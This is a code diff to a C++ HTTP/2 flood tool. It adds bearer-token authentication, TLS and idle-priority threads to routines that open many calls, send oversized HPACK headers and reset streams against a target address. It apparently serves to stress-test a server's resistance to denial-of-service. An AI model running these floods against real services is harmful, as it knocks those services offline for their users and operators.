@@ -1,5 +1,7 @@
 #include "attack/floods.h"
 
+#include <sched.h>
+
 #include <algorithm>
 #include <array>
 #include <memory>
@@ -24,25 +26,27 @@ void QueueBatch(Http2Client& client, const Queue& queue) {
   while (client.queued() < enough) queue();
 }
 
-std::uint32_t NoCall(Http2Client&) { return 0; }
-std::uint32_t OneCall(Http2Client& client) { return client.Call(CallHeaders(kReconstruct)); }
+std::uint32_t NoCall(Http2Client&, const Headers&) { return 0; }
+std::uint32_t OneCall(Http2Client& client, const Headers& more) {
+  return client.Call(CallHeaders(kReconstruct, more));
+}
 
 // An open stream, so that its frames are read.
-std::uint32_t OpenCall(Http2Client& client) {
-  const auto call = OneCall(client);
+std::uint32_t OpenCall(Http2Client& client, const Headers& more) {
+  const auto call = OneCall(client, more);
   client.Data(call, Prefixed(Open().SerializeAsString()));
   client.Flush(milliseconds(1'000));
   client.Read(milliseconds(100));
   return call;
 }
 
-std::uint32_t OpenHeaders(Http2Client& client) {
-  return client.CallBlock(HeaderBlock(CallHeaders(kGetServerInfo)), 0);
+std::uint32_t OpenHeaders(Http2Client& client, const Headers& more) {
+  return client.CallBlock(HeaderBlock(CallHeaders(kGetServerInfo, more)), 0);
 }
 
-std::uint32_t OpenLongHeader(Http2Client& client) {
-  return client.CallBlock(HeaderBlock(CallHeaders(kGetServerInfo)) + '\0' + HpackInteger(0, 7, 7) +
-                              "x-large" + HpackInteger(0, 7, 1u << 30),
+std::uint32_t OpenLongHeader(Http2Client& client, const Headers& more) {
+  return client.CallBlock(HeaderBlock(CallHeaders(kGetServerInfo, more)) + '\0' +
+                              HpackInteger(0, 7, 7) + "x-large" + HpackInteger(0, 7, 1u << 30),
                           0);
 }
 
@@ -83,7 +87,7 @@ void ResetCalls(Http2Client& client, std::uint32_t) {
 }
 
 // The headers are in the connection's table, so a call takes 40 bytes.
-std::uint32_t IndexHeaders(Http2Client& client) {
+std::uint32_t IndexHeaders(Http2Client& client, const Headers&) {
   std::string block;
   for (const auto& [name, value] : CallHeaders(kGetServerInfo)) {
     block +=
@@ -168,15 +172,17 @@ void Attack(const Flood& flood, const FloodSettings& settings, Counts& counts) {
   const std::uint64_t most = settings.most_bytes / settings.connections;
   const double rate = settings.bytes_per_second / static_cast<double>(settings.connections);
   std::uint64_t sent = 0;
+  Headers more;
+  if (!settings.token.empty()) more.emplace_back("authorization", "Bearer " + settings.token);
   std::unique_ptr<Http2Client> client;
   std::uint32_t call = 0;
   while (Clock::now() < end && sent < most) {
     try {
       if (!client || client->closed()) {
-        client = std::make_unique<Http2Client>(settings.address,
-                                               Http2Client::Options{.source = settings.source});
+        client = std::make_unique<Http2Client>(
+            settings.address, Http2Client::Options{.source = settings.source, .tls = settings.tls});
         ++counts.connections;
-        call = flood.begin(*client);
+        call = flood.begin(*client, more);
       }
       flood.queue(*client, call);
     } catch (const std::runtime_error&) {
@@ -198,13 +204,21 @@ void Attack(const Flood& flood, const FloodSettings& settings, Counts& counts) {
 
 }  // namespace
 
+void YieldProcessors() {
+  const sched_param parameters{};
+  sched_setscheduler(0, SCHED_IDLE, &parameters);  // Of the calling thread alone.
+}
+
 std::span<const Flood> Floods() { return kFloods; }
 
 FloodOutcome RunFlood(const Flood& flood, const FloodSettings& settings) {
   Counts counts;
   std::vector<std::thread> attackers;
   for (std::size_t k = 0; k < settings.connections; ++k) {
-    attackers.emplace_back([&] { Attack(flood, settings, counts); });
+    attackers.emplace_back([&] {
+      if (settings.yield_processors) YieldProcessors();
+      Attack(flood, settings, counts);
+    });
   }
   for (std::thread& attacker : attackers) attacker.join();
   return {.bytes = counts.bytes, .connections = counts.connections, .refused = counts.refused};
